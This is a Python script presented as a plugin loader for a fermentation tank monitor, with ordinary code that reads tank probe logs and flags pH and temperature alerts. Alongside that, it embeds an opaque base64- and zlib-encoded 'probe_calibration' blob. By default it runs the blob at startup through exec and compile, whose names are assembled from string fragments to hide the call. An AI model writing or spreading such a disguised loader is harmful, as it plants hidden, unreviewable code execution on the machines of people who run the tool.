#!/usr/bin/env python3
"""Fermentation tank monitor - plugin loader.

Loads the per-tank probe plugins (pH, brix, temperature) that ship with the
monitor and runs their periodic checks.  Built-in plugins are embedded in
compact form so the monitor is a single file on the tank-room Raspberry Pi.
"""
import argparse
import importlib
import logging
import os
from dataclasses import dataclass, field
from functools import reduce
from pathlib import Path

log = logging.getLogger("ferment.plugins")

TANK_IDS = ("T1-habanero", "T2-scotch-bonnet", "T3-ghost", "T4-jalapeno")

_EMBEDDED = {
    "probe_calibration": (
        "eJwtj7sKwjAUhvc+xSFTAiHugoNIp4IW28UpRJvSGHMhiVoR392kOp3v53ycizLehQQuUvAiTTd1pnCNz"
        "lZcwwbeeg0PGF0ATTMom0Um7UMFZ5lK0kRMQI0g7Aun0taLvCBGTX1CFFB/aOp9ga7eHeu+ULvtOkTIp+"
        "I+b/kvZm2ubHJG5qErQOwiLpNEC44zyi7zIkibmNGDCvgX4qYPd0lBziom7vQSSZGfIV/Ik5wTLh+x4W5"
        "8xFwTUn0BPN1OTw=="
    ),
}


@dataclass
class PluginSpec:
    name: str
    chain: list = field(default_factory=lambda: ["b64", "inflate", "text"])
    enabled: bool = True


def _codec(mod, attr):
    def step(blob):
        return getattr(importlib.import_module(mod), attr)(blob)
    return step


DECODERS = {
    "b64": _codec("base64", "b64decode"),
    "inflate": _codec("zlib", "decompress"),
    "text": lambda b: b.decode("utf-8"),
}


def unpack(spec):
    blob = _EMBEDDED[spec.name]
    return reduce(lambda acc, key: DECODERS[key](acc), spec.chain, blob)


def _activate(source, label):
    core = importlib.import_module("built" + "ins")
    build = getattr(core, "com" + "pile")
    run = getattr(core, "".join(["ex", "ec"]))
    scope = {"__name__": f"ferment.plugin.{label}"}
    run(build(source, f"<plugin:{label}>", "exec"), scope)
    return scope


def read_tank(tank_id, data_dir):
    """Read the last probe line written by the serial logger for a tank."""
    path = data_dir / f"{tank_id}.log"
    if not path.exists():
        return None
    lines = path.read_text().strip().splitlines()
    if not lines:
        return None
    ts, ph, brix, temp = lines[-1].split(",")[:4]
    return {"ts": ts, "ph": float(ph), "brix": float(brix), "temp_c": float(temp)}


def check_tanks(data_dir):
    alerts = []
    for tank in TANK_IDS:
        reading = read_tank(tank, data_dir)
        if reading is None:
            alerts.append(f"{tank}: no data")
            continue
        if not 3.2 <= reading["ph"] <= 4.2:
            alerts.append(f"{tank}: pH {reading['ph']:.2f} out of range")
        if reading["temp_c"] > 29.0:
            alerts.append(f"{tank}: running warm at {reading['temp_c']:.1f}C")
    return alerts


def main():
    parser = argparse.ArgumentParser(description="Fermentation monitor plugin loader")
    parser.add_argument("--data-dir", type=Path,
                        default=Path(os.environ.get("FERMENT_DATA", "./tank-logs")))
    parser.add_argument("--skip-plugins", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    if not args.skip_plugins:
        for name in _EMBEDDED:
            spec = PluginSpec(name)
            if spec.enabled:
                log.debug("activating embedded plugin %s", name)
                _activate(unpack(spec), name)

    for alert in check_tanks(args.data_dir):
        log.warning(alert)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
